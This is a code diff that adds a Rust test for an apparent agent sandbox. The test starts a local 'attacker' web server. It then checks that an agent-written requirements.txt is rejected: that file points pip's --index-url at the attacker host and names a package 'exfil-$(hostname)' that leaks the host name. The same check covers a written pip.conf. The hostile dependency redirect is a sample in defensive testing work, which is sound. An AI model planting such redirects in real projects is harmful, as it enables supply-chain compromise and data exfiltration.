@@ -221,3 +221,105 @@ fn the_agents_output_is_bounded_on_the_host_and_reaches_no_terminal_raw() {
     assert!(!logs.stdout.contains(&0x1b), "logs prints no raw escape");
     assert!(stdout(&logs).contains("\\x1b]0;owned\\x07"));
 }
+
+/// A web server in a container of the test's own, on the engine's default network (where
+/// dependency installs run), logging each request; removed on drop.
+struct Attacker {
+    name: String,
+    ip: String,
+}
+
+impl Attacker {
+    fn start(salt: &str) -> Attacker {
+        let name = format!("bd-attacker-{salt}-{}", std::process::id());
+        let _ = docker(&["rm", "-f", &name]);
+        docker(&[
+            "run",
+            "-d",
+            "--name",
+            &name,
+            "--label",
+            "boxdelegate.test=attacker",
+            "boxdelegate/python:bookworm",
+            "python3",
+            "-m",
+            "http.server",
+            "8000",
+        ]);
+        let ip = docker(&[
+            "inspect",
+            "-f",
+            "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+            &name,
+        ])
+        .trim()
+        .to_string();
+        assert!(!ip.is_empty());
+        Attacker { name, ip }
+    }
+
+    fn requests(&self) -> String {
+        let out = std::process::Command::new("docker")
+            .args(["logs", &self.name])
+            .output()
+            .unwrap();
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+        .lines()
+        .filter(|l| l.contains("\"GET ") || l.contains("\"POST "))
+        .collect::<Vec<_>>()
+        .join("\n")
+    }
+}
+
+impl Drop for Attacker {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("docker")
+            .args(["rm", "-f", &self.name])
+            .output();
+    }
+}
+
+#[test]
+fn a_manifest_that_redirects_the_dependency_install_is_rejected_and_reaches_no_server() {
+    require_base_image();
+    let attacker = Attacker::start("index");
+    let repo = TestRepo::empty();
+    repo.write("app.py", "print('hi')\n");
+    repo.write(
+        "boxdelegate.toml",
+        &format!(
+            "[project]\nprofile = \"python\"\n\n[agent]\nretries = 0\nkind = \"command\"\ncommand = {}\n\n[run]\ninfra_retries = 0\n\n[verify]\ntest = \"echo 1 passed, 0 failed\"\nlint = \"\"\ntypecheck = \"\"\n",
+            toml_string(&format!(
+                "printf -- '--index-url http://{}:8000/simple/\\nexfil-$(hostname)==1.0\\n' > requirements.txt; echo '# pip.conf too' > pip.conf",
+                attacker.ip
+            ))
+        ),
+    );
+    repo.unit(
+        "exfil",
+        "scope = [\"requirements.txt\", \"pip.conf\", \"app.py\"]",
+        "Add a dependency.",
+    );
+    repo.commit("project");
+    let refs = repo.refs();
+    let (code, units, err) = repo.run(&["--unit", "exfil"]);
+    let u = &units[0];
+    assert_eq!(code, 10, "{err}\n{u}");
+    let m = messages(u, "dependency-source");
+    assert!(
+        m.iter()
+            .any(|m| m.starts_with("requirements.txt: ") && m.contains("--index-url http://")),
+        "{m:?}"
+    );
+    assert!(m.iter().any(|m| m.starts_with("pip.conf: ")), "{m:?}");
+    assert_eq!(repo.refs(), refs, "nothing landed");
+    assert_eq!(
+        attacker.requests(),
+        "",
+        "the attacker's server heard nothing"
+    );
+}
